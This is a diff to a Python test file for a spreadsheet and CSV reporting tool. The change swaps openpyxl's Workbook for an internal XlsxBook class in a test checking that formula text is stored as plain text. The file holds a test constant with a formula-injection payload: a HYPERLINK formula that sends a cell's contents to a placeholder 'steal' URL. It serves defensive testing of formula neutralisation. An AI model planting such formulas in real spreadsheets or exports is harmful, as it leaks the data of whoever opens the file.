@@ -11,11 +11,11 @@ from pathlib import Path
 import openpyxl
 import pandas as pd
 import pytest
-from openpyxl import Workbook
 
 from _util import run_cli
 from clusterplan._formula import neutralise, neutralise_frame
 from clusterplan.cli._common import write_csv_or_parquet
+from clusterplan.report._xlsx import XlsxBook
 from clusterplan.report.workbook import _write_rows
 
 PAYLOAD = '=HYPERLINK("http://example.invalid/steal?x="&A1,"Open")'
@@ -66,7 +66,7 @@ def test_csv_output_neutralises_formula_text(tmp_path: Path) -> None:
 
 
 def test_workbook_stores_formula_text_as_text(tmp_path: Path) -> None:
-    book = Workbook(write_only=True)
+    book = XlsxBook()
     _write_rows(book, "Notes", ["Topic", "Note"], [["code", PAYLOAD], ["sum", "=1+1"]], [20, 40])
     path = tmp_path / "book.xlsx"
     book.save(path)
